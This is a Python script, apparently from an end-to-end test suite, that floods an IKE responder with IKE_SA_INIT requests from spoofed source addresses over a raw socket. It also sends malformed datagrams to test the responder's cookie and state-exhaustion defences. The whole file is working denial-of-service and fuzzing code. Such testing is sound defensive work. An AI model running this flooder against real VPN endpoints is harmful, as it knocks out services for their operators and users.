#!/usr/bin/env python3
"""Flood an IKE responder with IKE_SA_INIT requests from many spoofed
source addresses, and with hostile bytes (truncated, bad lengths, junk),
over a raw socket (root, in the attacker's network namespace).

    ike_flood.py DST_IP PEER_IP SRC_PREFIX COUNT

Each request is valid as far as the responder can tell before it keeps
state: a new SPIi, one IKE proposal AES-GCM-16-128 / PRF-HMAC-SHA2-256 /
ECP-256 (what tests/e2e/ike.sh negotiates by default), a KE payload whose
public value is the P-256 generator (a valid point: RFC 6989's checks
pass), a 32-byte nonce. Every other request comes from PEER_IP (the
configured peer, from a new port each time: the responder keeps state for
those until its cookie threshold), the rest from SRC_PREFIX.3 ..
SRC_PREFIX.254 (no connection matches: refused without state). Prints
what it sent.
"""
import os
import random
import socket
import struct
import sys
import time

P256_G = bytes.fromhex(
    "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
    "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5"
)


def payload(next_type, body, critical=False):
    return struct.pack("!BBH", next_type, 0x80 if critical else 0, 4 + len(body)) + body


def transform(last, ttype, tid, keylen=None):
    attrs = struct.pack("!HH", 0x800E, keylen) if keylen else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_sa_init(spi_i):
    ts = (transform(False, 1, 20, 128) + transform(False, 2, 5) + transform(True, 4, 19))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(ts), 1, 1, 0, 3) + ts
    sa = payload(34, proposal)  # next: KE
    ke = payload(40, struct.pack("!HH", 19, 0) + P256_G)  # next: Nonce
    nonce = payload(0, os.urandom(32))
    body = sa + ke + nonce
    header = struct.pack("!QQBBBBII", spi_i, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return header + body


def ipv4_udp(src, dst, sport, dport, data):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data  # no checksum (IPv4)
    total = 20 + len(udp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.randrange(65536), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    csum = 0
    for i in range(0, 20, 2):
        csum += (ip[i] << 8) + ip[i + 1]
    while csum >> 16:
        csum = (csum & 0xFFFF) + (csum >> 16)
    ip = ip[:10] + struct.pack("!H", ~csum & 0xFFFF) + ip[12:]
    return ip + udp


def main():
    dst, peer, prefix, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = hostile = 0
    for i in range(count):
        src = peer if i % 2 == 0 else "%s.%d" % (prefix, 3 + i % 252)
        sport = 1024 + i
        msg = ike_sa_init(random.getrandbits(64) | 1)
        s.sendto(ipv4_udp(src, dst, sport, 500, msg), (dst, 0))
        sent += 1
        if i % 10 == 0:
            # Hostile: truncated, a length that lies, an unknown critical
            # payload, random bytes.
            bad = [
                msg[: random.randrange(1, len(msg))],
                msg[:24] + struct.pack("!I", 0xFFFF) + msg[28:],
                msg[:16] + bytes([99]) + msg[17:] + payload(0, b"x", critical=True),
                os.urandom(random.randrange(1, 300)),
            ]
            for b in bad:
                s.sendto(ipv4_udp(src, dst, sport, 500, b), (dst, 0))
                hostile += 1
            # A few hundred datagrams a second per batch: a flood, but one
            # whose loss in the receive buffer does not decide the test.
            time.sleep(0.002)
    print("    sent %d IKE_SA_INIT requests (half from %s, half from %d other addresses) and %d hostile datagrams"
          % (sent, peer, min(count // 2, 252), hostile))


if __name__ == "__main__":
    main()
